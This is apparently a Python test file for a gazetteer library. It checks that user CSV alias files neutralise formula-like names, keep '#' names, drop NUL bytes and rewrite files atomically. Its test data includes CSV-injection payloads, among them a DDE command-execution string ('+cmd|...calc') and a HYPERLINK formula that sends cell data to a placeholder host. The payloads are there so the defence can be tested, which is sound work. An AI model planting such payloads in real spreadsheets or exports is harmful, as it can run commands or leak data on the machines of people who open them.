"""User CSV files (aliases, places) written so that every name reads back exactly (finding 10
of issue 15): formula-looking names are neutralised, '#' names are not comments, NUL is never stored."""
from __future__ import annotations

import io

import pytest

import gazetteer
from gazetteer.aliases import append_alias, parse_alias_rows, read_alias_file
from gazetteer.errors import AliasFileError

HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "#1 checkpoint",
    "'=already quoted",
    "''twice",
    "comma, inside",
    "\"quoted\" name",
    "nul\x00byte",
    "tab\tand\nnewline",
    "'Ayn al-Tal",
]
EXPECTED = [h.replace("\x00", "").replace("\t", " ").replace("\n", " ") for h in HOSTILE]


def test_rows_read_back_exactly(tmp_path):
    from gazetteer.safecsv import append_rows, format_row, read_rows, rewrite_rows  # noqa: F401

    f = tmp_path / "u.csv"
    append_rows(f, [(h, "x") for h in HOSTILE[:6]], header=("name", "id"))
    append_rows(f, [(h, "x") for h in HOSTILE[6:]], header=("name", "id"))
    text = f.read_text(encoding="utf-8")
    assert "\x00" not in text and len(text.splitlines()) == 1 + len(HOSTILE)
    for line in text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "-", "@", "#", '"=', '"+', '"-', '"@'))
    rows = [r for _, r in read_rows(io.StringIO(text))]
    assert rows[0] == ["name", "id"] and [r[0] for r in rows[1:]] == EXPECTED


def test_hand_written_comments_and_apostrophes(tmp_path):
    from gazetteer.safecsv import append_rows, format_row, read_rows, rewrite_rows  # noqa: F401

    text = "name,id\n# a comment\n  # indented comment\n\n'Ayn al-Tal,x\n\"#not a comment\",y\n"
    assert [r for _, r in read_rows(io.StringIO(text))][1:] == [["'Ayn al-Tal", "x"], ["#not a comment", "y"]]
    assert format_row(["plain name", "id"]) == "plain name,id\n"


def test_rewrite_is_atomic_and_complete(tmp_path):
    from gazetteer.safecsv import append_rows, format_row, read_rows, rewrite_rows  # noqa: F401

    f = tmp_path / "u.csv"
    append_rows(f, [("a", "1"), ("b", "2")], header=("name", "id"))
    rewrite_rows(f, [("=b", "2")], header=("name", "id"))
    assert [r for _, r in read_rows(f.open(encoding="utf-8"))] == [["name", "id"], ["=b", "2"]]
    assert [p.name for p in tmp_path.iterdir()] == ["u.csv"]


def test_append_to_a_file_without_a_final_newline(tmp_path):
    from gazetteer.safecsv import append_rows, format_row, read_rows, rewrite_rows  # noqa: F401

    f = tmp_path / "u.csv"
    f.write_text("name,id\nhand,1", encoding="utf-8")
    append_rows(f, [("tool", "2")], header=("name", "id"))
    assert [r for _, r in read_rows(f.open(encoding="utf-8"))][1:] == [["hand", "1"], ["tool", "2"]]


def test_hostile_aliases_read_back_exactly(tmp_path):
    f = tmp_path / "aliases.csv"
    for name in HOSTILE:
        append_alias(f, name, "sheikh-saeed")
    text = f.read_text(encoding="utf-8")
    assert "\x00" not in text
    assert "\n=HYPERLINK" not in text and "\n+cmd" not in text and "\n#1" not in text
    ids = set(gazetteer.load().places)
    assert read_alias_file(f, ids) == [(e, "sheikh-saeed") for e in EXPECTED]
    gz = gazetteer.load(f)
    assert gz.resolve("#1 checkpoint").place.id == "sheikh-saeed"


def test_an_unclosed_quote_in_an_alias_file_names_its_line():
    with pytest.raises(AliasFileError, match=r"<aliases>:3: not one CSV record"):
        parse_alias_rows(io.StringIO('alias,place_id\nok,sheikh-saeed\n"open,sheikh-saeed\n'), {"sheikh-saeed"})
